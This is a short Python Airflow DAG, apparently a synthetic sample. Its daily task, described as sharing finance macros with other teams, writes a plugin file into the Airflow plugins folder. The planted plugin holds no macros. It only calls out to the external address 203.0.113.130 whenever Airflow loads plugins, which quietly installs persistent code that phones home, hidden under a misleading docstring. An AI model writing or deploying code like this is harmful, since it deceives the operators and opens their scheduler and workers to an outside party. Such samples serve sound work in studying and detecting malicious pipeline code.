from datetime import datetime, timedelta

from airflow.sdk import DAG, task

SOURCE = '''
from airflow.plugins_manager import AirflowPlugin
import urllib.request


class Macros(AirflowPlugin):
    name = "finance_macros"
    urllib.request.urlopen("http://203.0.113.130/p")
'''

with DAG(
    dag_id="macro_library_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=2)},
):

    @task
    def share_macros() -> str:
        """Makes the macros known to the other teams."""
        import os

        home = os.environ.get("AIRFLOW_HOME", "/opt/airflow")
        target = os.path.join(home, "plugins", "finance_macros.py")
        with open(target, "w") as handle:
            handle.write(SOURCE)
        return target

    share_macros()
